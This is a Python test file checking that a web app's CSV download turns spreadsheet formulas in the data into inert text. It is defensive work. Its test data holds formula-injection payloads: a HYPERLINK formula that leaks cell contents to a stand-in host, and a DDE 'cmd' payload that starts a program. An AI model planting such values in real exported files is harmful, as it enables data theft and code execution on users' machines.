"""The Data page's CSV download carries no spreadsheet formulas, whatever the data.

Member names from the source are the text a user does not control: here they are
formulas, and the download must hand them over as inert text.
"""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import urlencode

import pytest
from flask.testing import FlaskClient

from config import Config
from sources import load_orders
from tests.hostile.conftest import LOGIN, publish_orders
from web.export import FORMULA_STARTS
from web.factory import create_app

# No commas: the URL separates filter values with them.
HOSTILE_REGIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]
DOWNLOAD = {
    "output": "data-download.data",
    "outputs": {"id": "data-download", "property": "data"},
    "inputs": [{"id": "data-download-button", "property": "n_clicks", "value": 1}],
    "state": [{"id": "url", "property": "search", "value": ""}],
    "changedPropIds": ["data-download-button.n_clicks"],
}


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
    folder = tmp_path_factory.mktemp("hostile-data")
    lines = ["Order ID,Order Date,Customer ID,Sales,Profit,Region,Category,Segment"]
    for number, region in enumerate(HOSTILE_REGIONS):
        quoted = '"' + region.replace('"', '""') + '"'
        lines.append(
            f"O-{number},2017-0{number + 1}-15,C{number},{10 + number}.50,-1.25,"
            f"{quoted},=1+2,@Home"
        )
    source = folder / "orders.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    orders = load_orders(Config(data_source=str(source)))
    config = publish_orders(folder / "store", orders)
    app = create_app(config)
    return app.server.test_client()


def download(client: FlaskClient, search: str) -> str:
    body = json.loads(json.dumps(DOWNLOAD))
    body["state"][0]["value"] = search
    response = client.post("/_dash-update-component", json=body, headers=LOGIN)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    data = response.get_json()["response"]["data-download"]["data"]
    assert data["type"] == "text/csv"
    return str(data["content"])


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("region", HOSTILE_REGIONS)
def test_a_formula_member_is_downloaded_as_inert_text(
    hostile_client: FlaskClient, region: str
) -> None:
    search = "?" + urlencode(
        {"region": region, "start": "2017-01-01", "end": "2017-12-31"}
    )

    cells = list(csv.reader(io.StringIO(download(hostile_client, search))))

    header, rows = cells[0], cells[1:]
    assert rows, "the filtered table is empty: the member was not matched"
    column = header.index("region")
    assert {row[column] for row in rows} == {"'" + region}
    for row in cells:
        for cell in row:
            # Only numbers (a negative amount) may start like a formula.
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell


def test_formula_members_of_every_dimension_are_defused(
    hostile_client: FlaskClient,
) -> None:
    search = "?category==1%2B2&segment=@Home&start=2017-01-01&end=2017-12-31"

    cells = list(csv.reader(io.StringIO(download(hostile_client, search))))

    header = cells[0]
    rows = cells[1:]
    assert {row[header.index("category")] for row in rows} == {"'=1+2"}
    assert {row[header.index("segment")] for row in rows} == {"'@Home"}
